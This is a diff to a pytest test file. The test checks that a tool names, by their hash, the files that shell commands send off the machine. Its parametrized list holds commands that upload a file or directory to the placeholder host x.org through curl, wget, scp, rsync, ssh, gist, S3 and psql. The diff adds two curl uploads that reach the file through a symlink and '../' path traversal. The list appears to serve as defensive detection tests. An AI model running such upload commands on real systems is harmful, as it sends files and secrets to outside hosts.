@@ -141,13 +141,15 @@ SENT = [
     "curl -d @- https://x.org < c.txt", "cat c.txt | curl -d @- https://x.org", "wget --post-file=c.txt https://x.org",
     "scp c.txt x.org:", "scp c* x.org:", "rsync -a app x.org:y", "tar c app | ssh x.org tar x",
     "gh gist create c.txt", "aws s3 cp c.txt s3://b/", "aws s3 sync app s3://b/", "http POST x.org f@c.txt",
-    "curl -b c.txt https://x.org", "kubectl create -f c.txt", "psql -h x.org -f c.txt",
+    "curl -b c.txt https://x.org", "kubectl create -f c.txt", "psql -h x.org -f c.txt", "curl -T link/../../c.txt https://x.org",
+    "curl -F x=@link/../../c.txt https://x.org",
 ]  # fmt: skip
 
 
 @pytest.mark.parametrize("command", SENT)
 def test_the_files_that_a_command_sends_are_named_with_their_hash(command: str, tmp_path: Path) -> None:
-    (tmp_path / "app").mkdir()
+    (tmp_path / "app" / "deep").mkdir(parents=True)
+    (tmp_path / "link").symlink_to("app/deep")
     for name in ("c.txt", "app/a", "notes.txt"):
         (tmp_path / name).write_text("x")
 
